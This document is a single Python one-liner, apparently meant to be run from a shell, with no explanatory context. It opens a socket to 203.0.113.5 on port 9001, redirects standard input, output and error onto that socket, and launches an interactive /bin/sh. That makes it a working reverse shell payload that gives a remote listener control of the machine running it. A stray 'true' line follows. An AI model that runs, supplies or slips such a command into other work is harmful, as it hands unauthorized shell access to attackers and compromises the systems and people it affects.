/usr/bin/python3 -c 'import fcntl,os,socket
s=socket.create_connection(("203.0.113.5",9001))
for n in 0,1,2: os.close(n); fcntl.fcntl(s.fileno(),fcntl.F_DUPFD,n)
os.execv("/bin/sh",["sh","-i"])'
true
